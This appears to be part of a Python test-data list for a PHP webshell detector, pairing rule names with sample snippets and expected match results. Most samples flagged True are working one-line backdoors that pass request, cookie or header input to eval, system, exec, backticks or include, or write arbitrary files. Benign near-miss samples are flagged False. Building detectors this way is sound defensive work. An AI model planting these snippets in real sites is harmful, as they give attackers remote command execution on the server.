        b"<?php $t = $_SERVER['HTTP_X_T']; if ($t) { echo `$t`; }\n",
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $f = $_POST['f']; $d = $_POST['d']; $h = fopen($f, 'a+'); fputs($h, $d); fclose($h);\n",
        True,
    ),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", padded("<?php $c = $_POST['c']; /* run */ system($c);\n"), True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded(
            '<?php\n// tools\n$cmd = $_REQUEST[\'cmd\'];\n\necho "<pre>";\npassthru($cmd);\necho "</pre>";\n'
        ),
        True,
    ),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", padded("<?php $p=$_GET['p'];if($p!=''){@assert($p);}\n"), True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $k = $_SERVER['HTTP_AUTHORIZATION']; $k = base64_decode(substr($k, 6)); eval($k);\n"),
        True,
    ),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", padded("<?php $x = (string) $_POST['x']; eval($x);\n"), True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $v = @$_GET['v']; $v = urldecode($v); echo shell_exec($v);\n"),
        True,
    ),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", padded("<?php $r = $_COOKIE; $f = $r['f']; $f($r['a']);\n"), True),
    ("SPAMGEAR_OBFUSC_ConcatSinkName", padded('<?php $a = $_POST["a"]; $fn = "sys"."tem"; $fn($a);\n'), True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded(
            '<?php $c = $_GET[\'c\']; $h = popen("$c", "r"); while (!feof($h)) { echo fread($h, 1024); }\n'
        ),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $code = $_POST['code']; if (!empty($code)) eval($code);\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded(
            "<?php $n = $_GET['n']; $b = $_GET['b']; $fp = fopen($n, 'wb'); fwrite($fp, base64_decode($b)); fclose($fp);\n"
        ),
        True,
    ),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", padded("<?php $u = $_POST['u']; include_once($u);\n"), True),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", padded("<?php $s = $_GET['s']; print(`$s`);\n"), True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $in = json_decode($_POST['j'], true); $in['f']($in['a']);\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $x = $_REQUEST['x']; $y = strrev($x); $z = base64_decode($y); assert($z);\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $cmd = $_POST['cmd']; $r = array(); exec($cmd, $r); print_r($r);\n"),
        True,
    ),
    ("SPAMGEAR_INPUT_AdjacentInputToSink", padded("<?php $m = $_GET['m']; $a = $_GET['a']; $m($a);\n"), True),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $t = $_SERVER['HTTP_X_T']; if ($t) { echo `$t`; }\n"),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded(
            "<?php $f = $_POST['f']; $d = $_POST['d']; $h = fopen($f, 'a+'); fputs($h, $d); fclose($h);\n"
        ),
        True,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $title = (string) $_GET['t']; /* show */ echo htmlspecialchars($title);\n",
        False,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $title = (string) $_GET['t']; /* show */ echo htmlspecialchars($title);\n"),
        False,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $r = $_GET; $page = $r['page']; $view->render($page);\n",
        False,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $r = $_GET; $page = $r['page']; $view->render($page);\n"),
        False,
    ),
    # --- near misses for the rules added or widened by issue 4k ---
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $id = $_GET['id']; $row = $db->get($id); echo $row;\n",
        False,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $id = $_GET['id']; $row = $db->get($id); echo $row;\n"),
        False,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $cmd = $_POST['file']; exec('ls ' . escapeshellarg($cmd), $out);\n",
        False,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $cmd = $_POST['file']; exec('ls ' . escapeshellarg($cmd), $out);\n"),
        False,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $name = $_POST['name']; $hash = md5($name); echo $hash;\n",
        False,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $name = $_POST['name']; $hash = md5($name); echo $hash;\n"),
        False,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        b"<?php $q = $_GET; $page = (int) $q['page']; render($page);\n",
        False,
    ),
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php $q = $_GET; $page = (int) $q['page']; render($page);\n"),
        False,
    ),
    ("SPAMGEAR_INPUT_CapitalisedSinkOfInput", b"<?php $s = new System($_GET['mode']); $s->run();\n", False),
    (
        "SPAMGEAR_INPUT_CapitalisedSinkOfInput",
        padded("<?php $s = new System($_GET['mode']); $s->run();\n"),
        False,
    ),
    ("SPAMGEAR_INPUT_CapitalisedSinkOfInput", b"<?php System::log($_GET['x']); Exec::queue('job');\n", False),
    (
        "SPAMGEAR_INPUT_CapitalisedSinkOfInput",
        padded("<?php System::log($_GET['x']); Exec::queue('job');\n"),
        False,
    ),
    (
        "SPAMGEAR_INPUT_SuperglobalNameInVariable",
        b"<?php $src = '_GET'; $v = $$src['q']; echo htmlspecialchars($v);\n",
        False,
    ),
    (
        "SPAMGEAR_INPUT_SuperglobalNameInVariable",
        padded("<?php $src = '_GET'; $v = $$src['q']; echo htmlspecialchars($v);\n"),
        False,
    ),
    (
        "SPAMGEAR_INPUT_InputNamedArglessCall",
        b"<?php $page = $_GET['page']; $title = ucfirst($page); echo $title;\n",
        False,
    ),
    (
        "SPAMGEAR_INPUT_InputNamedArglessCall",
        padded("<?php $page = $_GET['page']; $title = ucfirst($page); echo $title;\n"),
        False,
    ),
    (
        "SPAMGEAR_INPUT_InputPathVarWrite",
        b"<?php $file = 'notes/' . $_POST['name']; if (!preg_match('/^[a-z]+$/', $_POST['name'])) die();\n$fh = fopen($file, 'w'); fwrite($fh, $_POST['body']);\n",
        False,
    ),
    (
        "SPAMGEAR_INPUT_InputPathVarWrite",
        padded(
            "<?php $file = 'notes/' . $_POST['name']; if (!preg_match('/^[a-z]+$/', $_POST['name'])) die();\n$fh = fopen($file, 'w'); fwrite($fh, $_POST['body']);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_INPUT_DecodedInputToPhpFile",
        b"<?php $d = $_POST['d']; $fp = fopen('log.txt', 'w'); fwrite($fp, base64_decode($d));\n",
        False,
    ),
    (
        "SPAMGEAR_INPUT_DecodedInputToPhpFile",
        padded("<?php $d = $_POST['d']; $fp = fopen('log.txt', 'w'); fwrite($fp, base64_decode($d));\n"),
        False,
    ),
    ("SPAMGEAR_OBFUSC_SplitSuperglobalName", b"<?php $k = '_SE' . 'LF'; $m = '_P' . 'AGE';\n", False),
    ("SPAMGEAR_OBFUSC_SplitSuperglobalName", padded("<?php $k = '_SE' . 'LF'; $m = '_P' . 'AGE';\n"), False),
    (
        "SPAMGEAR_INPUT_IncludeOfInput",
        b"<?php $p = trim($_GET['p']); include __DIR__ . '/pages/home.php';\n",
        False,
    ),
    (
        "SPAMGEAR_INPUT_IncludeOfInput",
        padded("<?php $p = trim($_GET['p']); include __DIR__ . '/pages/home.php';\n"),
        False,
    ),
    ("SPAMGEAR_INPUT_ShellOfInput", b"<?php $a = escapeshellcmd($_POST['c']); system('uptime');\n", False),
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        padded("<?php $a = escapeshellcmd($_POST['c']); system('uptime');\n"),
        False,
    ),
    (
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        b"<?php array_map(base64_decode(...), $parts); call_user_func('str_rot13', $x);\n",
        False,
    ),
    (
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        padded("<?php array_map(base64_decode(...), $parts); call_user_func('str_rot13', $x);\n"),
        False,
    ),
    (
        "SPAMGEAR_INPUT_ArbitraryFileWrite",
        b"<?php $h = fopen('upload.log', 'a'); fwrite($h, $_POST['note']);\n",
        False,
    ),
    (
        "SPAMGEAR_INPUT_ArbitraryFileWrite",
        padded("<?php $h = fopen('upload.log', 'a'); fwrite($h, $_POST['note']);\n"),
        False,
    ),
    (
        "SPAMGEAR_INPUT_InputIntoPhpFile",
        b"<?php file_put_contents(__DIR__ . '/cache.txt', base64_decode($_POST['x']));\n",
        False,
    ),
    (
        "SPAMGEAR_INPUT_InputIntoPhpFile",
        padded("<?php file_put_contents(__DIR__ . '/cache.txt', base64_decode($_POST['x']));\n"),
        False,
    ),
    ("SPAMGEAR_OBFUSC_ConcatSinkName", b"<?php $label = 'sy' . 'nc' . 'ed'; $k = 'as' . 'k';\n", False),
    (
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        padded("<?php $label = 'sy' . 'nc' . 'ed'; $k = 'as' . 'k';\n"),
        False,
    ),
]
